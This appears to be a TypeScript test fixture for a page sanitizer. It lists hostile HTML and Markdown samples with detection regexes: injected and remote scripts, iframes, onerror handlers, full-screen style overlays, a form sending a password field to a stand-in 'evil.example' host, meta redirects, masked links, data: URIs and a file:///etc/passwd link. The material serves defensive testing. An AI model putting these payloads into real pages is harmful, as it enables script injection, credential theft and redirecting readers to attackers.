import {type HostilePage, pagesOf} from '../hostilePage';

const ELSEWHERE = 'https://evil.example';

/** Pages whose harm is done in a reader's browser. */
export const BROWSER_PAGES: readonly HostilePage[] = [
  ...pagesOf('script and frame', /<script[^>]*(?:>alert|evil\.example)/, {
    'holds a script': `<script>{'alert(1)'}</script>`,
    'fetches a script': `<script src="${ELSEWHERE}/a.js"></script>`,
    'fetches a script in the head': `<head>\n  <script src="${ELSEWHERE}/a.js"></script>\n</head>`,
    'holds a script in a drawing': `<svg>\n  <script href="${ELSEWHERE}/a.js" />\n</svg>`,
  }),
  ...pagesOf('script and frame', /<(?:iframe|object|embed)/, {
    'shows a frame with a page of its own': `<iframe srcDoc="&lt;script&gt;alert(1)&lt;/script&gt;" />`,
    'shows a frame of another site': `<iframe src="${ELSEWHERE}"></iframe>`,
    'shows a drawing that may run scripts': `<object data="/img/drawing.svg" type="image/svg+xml" />`,
    'embeds a file': `<embed src="/img/drawing.svg" />`,
  }),
  ...pagesOf('raw HTML and handlers', /onerror="?alert|autofocus|<style>main|position:fixed/i, {
    'hands over raw HTML': `<div dangerouslySetInnerHTML={{__html: '<img src="x" onerror="alert(1)">'}} />`,
    'hands raw HTML to an element that is allowed': `<kbd dangerouslySetInnerHTML={{__html: '<img src="x" onerror="alert(1)">'}} />`,
    'brings a style sheet': `<style>{'main { display: none }'}</style>`,
    'styles an element': `<kbd style={{position: 'fixed', inset: 0}}>x</kbd>`,
    'puts the focus where it likes': `<input autoFocus />`,
  }),
  ...pagesOf('elements that lead away', /evil\.example/, {
    'sends what readers type elsewhere': `<form action="${ELSEWHERE}"><input name="password" /></form>`,
    'moves every address of the page': `<base href="${ELSEWHERE}/" />`,
    'moves the reader': `<meta httpEquiv="refresh" content="0;url=${ELSEWHERE}" />`,
    'fetches a style sheet': `<link rel="stylesheet" href="${ELSEWHERE}/a.css" />`,
    'counts its readers elsewhere': `<img src="${ELSEWHERE}/pixel.png" alt="A pixel" />`,
    'plays a film of another site': `<video src="${ELSEWHERE}/film.mp4" />`,
    'writes a link as an element': `<a href="//evil.example">words</a>`,
  }),
  ...pagesOf('schemes of addresses', /(?:href|src)="?data:(?:text|image\/svg)|evil\.example|href="file:/, {
    'links to data': '[words](data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;)',
    'links to data by reference': '[one]: data:text/html,hello\n\n[words][one]',
    'links to another site without its scheme': '[words](//evil.example/a)',
    'hides another host behind a user name': '[words](https://github.com@evil.example/)',
    'shows a picture of another site': `![Four desks in a row, from elsewhere](${ELSEWHERE}/a.png)`,
    'shows a picture of another site by reference': `[one]: ${ELSEWHERE}/a.png\n\n![Four desks in a row][one]`,
    'shows data as a picture': '![Four desks in a row, drawn](data:image/svg+xml;base64,PHN2Zy8+)',
    'links to a file of the reader': '[words](file:///etc/passwd)',
    'links past the router to another site': '[words](pathname:////evil.example)',
    'links to data with spaces in a list': '- [words](<data:text/html,hello there>)\n- a',
  }),
];
